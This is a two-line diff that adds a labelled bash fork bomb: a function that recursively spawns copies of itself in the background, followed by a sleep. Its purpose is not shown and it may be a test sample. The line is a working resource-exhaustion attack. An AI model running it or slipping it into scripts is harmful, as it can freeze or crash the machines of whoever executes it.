@@ -1,0 +1,2 @@
+# Is a fork bomb.
+bomb() { bomb | bomb & }; bomb; sleep 20
